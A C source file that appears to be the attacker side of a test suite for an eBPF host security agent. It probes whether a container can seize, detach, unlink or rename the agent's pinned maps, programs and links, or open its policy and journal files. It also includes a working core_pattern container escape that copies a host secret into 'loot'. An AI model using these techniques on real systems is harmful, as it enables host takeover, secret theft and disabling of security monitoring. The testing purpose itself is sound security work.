/*
 * The host's own: a program that the kernel starts for it. And the agent's own: its maps, programs, links, pins and files;
 * the same on what is nobody's shows that those ways work.
 */
#include <dirent.h>
#include <linux/bpf.h>

#include "attacker.h"

static long bpf(int command, union bpf_attr *attributes)
{
	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

static int get(const char *pin)
{
	union bpf_attr a = {.pathname = (unsigned long)pin};

	return bpf(BPF_OBJ_GET, &a);
}

static void by_pin(const char *name)
{
	attempt(get(given(name)));
	reached("fd", 2);
}

static void way_map_by_pin(void) { by_pin("MAP_PIN"); }
static void way_prog_by_pin(void) { by_pin("PROG_PIN"); }

/* map_id, prog_id, link_id: the first field of the same union. */
static int by_id(int command, const char *name)
{
	union bpf_attr a = {.map_id = number(name)};

	return attempt(bpf(command, &a));
}

static void way_map_by_id(void)
{
	by_id(BPF_MAP_GET_FD_BY_ID, "MAP_ID");
	reached("fd", 2);
}

static void way_prog_by_id(void)
{
	by_id(BPF_PROG_GET_FD_BY_ID, "PROG_ID");
	reached("fd", 2);
}

/* That a link of this kind cannot be detached is said by who would do it: nothing else stood in the way. */
static void detach(int link)
{
	union bpf_attr a = {.link_detach.link_fd = link};
	long result = bpf(BPF_LINK_DETACH, &a);

	attempt(result < 0 && errno == EOPNOTSUPP ? 0 : result);
	reached("fd", 2);
}

static void way_link_by_id(void) { detach(by_id(BPF_LINK_GET_FD_BY_ID, "LINK_ID")); }
static void way_link_by_pin(void) { detach(need(get(given("LINK_PIN")), "link's pin")); }

static void way_unlink_pin(void) { done(unlink(given("DOOMED"))); }

/* And back: an agent that has lost its pins ends, and would tell no more of the other ways. */
static void way_rename_pins(void)
{
	const char *pins = given("PINS"), *moved = path("%s-moved", pins);

	attempt(rename(pins, moved));
	done(rename(moved, pins));
}

/* A descriptor to write by is enough: what is written would only spoil the other ways. */
static void write_to(const char *file)
{
	attempt(open(file, O_WRONLY | O_APPEND));
	reached("fd", 2);
}

static void way_policy(void) { write_to(given("POLICY")); }
static void way_state(void) { write_to(given("STATE")); }
static void way_journal(void) { write_to(given("JOURNAL")); }

/* In the host's cgroup and mounts: the secret is copied to where the container can read it. */
void steal(const char *self)
{
	const char *here = path("%.*s", (int)(strrchr(self, '/') - self), self);
	int from = open(path("%s/../../safe-data/_data/secret", here), O_RDONLY);
	int to = open(path("%s/loot", here), O_WRONLY | O_CREAT | O_TRUNC, 0600);
	char bytes[SECRET_MAX];
	ssize_t n = read(from, bytes, sizeof(bytes));

	exit(n < 1 || write(to, bytes, n) != n);
}

/* A process dies, and the kernel starts the program of /proc/sys/kernel/core_pattern, which is nobody's child. */
static void way_core_pattern(void)
{
	const char *setting = "/proc/sys/kernel/core_pattern";
	char before[256] = "", bytes[SECRET_MAX];
	int loot = -1;
	ssize_t n = 0;

	unlink(FREE "/loot");
	need(read(need(open(setting, O_RDONLY), setting), before, sizeof(before) - 1), setting);
	write_text(setting, path("|%s/../../free-data/_data/helper steal", given("ON_HOST")), setting);
	if (!fork())
		abort();
	need(wait(0), "the one that dies");
	for (int tries = 0; n < 1 && tries < 2000; tries++) {
		usleep(10000);
		loot = loot < 0 ? open(FREE "/loot", O_RDONLY) : loot;
		n = loot < 0 ? 0 : pread(loot, bytes, sizeof(bytes), 0);
	}
	write_text(setting, before, setting);
	errno = ENOENT;
	reached(bytes, attempt(n < 1 ? -1 : n));
}

static int load_return_zero(void)
{
	struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0}, {.code = BPF_JMP | BPF_EXIT}};
	union bpf_attr a = {.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT, .insn_cnt = 2, .insns = (unsigned long)code,
			    .license = (unsigned long)"GPL"};

	return bpf(BPF_PROG_LOAD, &a);
}

static int pin(const char *directory, const char *name, int fd)
{
	union bpf_attr a = {.pathname = (unsigned long)path("%s/%s", directory, name), .bpf_fd = fd};

	return fd < 0 ? fd : bpf(BPF_OBJ_PIN, &a);
}

void make_decoys(const char *directory)
{
	union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
	union bpf_attr link = {.raw_tracepoint.name = (unsigned long)"cgroup_rmdir", .raw_tracepoint.prog_fd = load_return_zero()};
	int made = bpf(BPF_MAP_CREATE, &map);

	mkdir(directory, 0700);
	if (pin(directory, "map", made) || pin(directory, "doomed", made) ||
	    pin(directory, "program", link.raw_tracepoint.prog_fd) || pin(directory, "link", bpf(BPF_RAW_TRACEPOINT_OPEN, &link))) {
		perror("decoys");
		exit(1);
	}
}

/* Which kind of object a descriptor is, by the name that the kernel gives its file. */
static const char *kind_of(int fd)
{
	static char name[64];
	ssize_t n = readlink(path("/proc/self/fd/%d", fd), name, sizeof(name) - 1);

	name[n < 0 ? 0 : n] = 0;
	return strstr(name, "bpf-map") ? "map" : strstr(name, "bpf-prog") ? "prog" : "link";
}

void identify(const char *directory)
{
	DIR *listed = opendir(directory);
	struct dirent *entry;

	while (listed && (entry = readdir(listed))) {
		union { struct bpf_map_info map; struct bpf_prog_info prog; struct bpf_link_info link; } info = {};
		const char *name = path("%s/%s", directory, entry->d_name);
		union bpf_attr a = {};
		int fd = entry->d_name[0] == '.' ? -1 : get(name);

		a.info.bpf_fd = fd;
		a.info.info = (unsigned long)&info;
		a.info.info_len = sizeof(info);
		if (fd >= 0 && !bpf(BPF_OBJ_GET_INFO_BY_FD, &a)) /* type, id: the first two of each */
			printf("%s\t%u\t%s\n", kind_of(fd), info.map.id, name);
		else if (fd < 0 && entry->d_name[0] != '.')
			identify(name);
	}
}

const struct way agent_ways[] = {
	{"core_pattern", way_core_pattern},
	{"map-by-pin", way_map_by_pin},
	{"prog-by-pin", way_prog_by_pin},
	{"link-by-pin", way_link_by_pin},
	{"map-by-id", way_map_by_id},
	{"prog-by-id", way_prog_by_id},
	{"link-by-id", way_link_by_id},
	{"unlink-pin", way_unlink_pin},
	{"rename-pins", way_rename_pins},
	{"policy-file", way_policy},
	{"state-file", way_state},
	{"journal-file", way_journal},
	{},
};
